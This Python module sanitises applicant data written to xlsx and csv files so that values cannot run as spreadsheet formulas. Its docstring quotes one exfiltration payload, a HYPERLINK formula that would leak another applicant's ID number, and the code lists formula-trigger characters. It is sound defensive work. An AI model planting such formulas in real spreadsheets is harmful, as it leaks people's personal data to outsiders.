"""Applicant text written into a spreadsheet stays text.

A packet's values, its file names and the manifest's columns come from outside. Written as they
are, a value such as `=HYPERLINK("http://…"&H4)` becomes a live formula in summary.xlsx (one
click sends another applicant's 身份证号 away), and a spreadsheet program opening summary.csv
evaluates anything that starts like a formula (`=`, `+`, `-`, `@`, a tab or a carriage return:
OWASP "CSV injection").

- xlsx: every cell a formula would be written as is stored as a string instead. The text is
  kept exactly; nothing in our workbooks is meant to be a formula.
- csv: a text cell that starts like a formula gets a leading apostrophe, which spreadsheet
  programs read as "this is text" (the OWASP advice); numbers are left as they are.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert_workbook(workbook: Any) -> int:
    """Turn every formula cell of an openpyxl workbook into a text cell; the count changed."""
    changed = 0
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
                    changed += 1
    return changed


def inert_csv_cell(value: Any) -> Any:
    """The value for a csv cell: text that starts like a formula, with a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        try:
            float(value)  # "-12.5" is a number written as text, not a formula
            return value
        except ValueError:
            return "'" + value
    return value
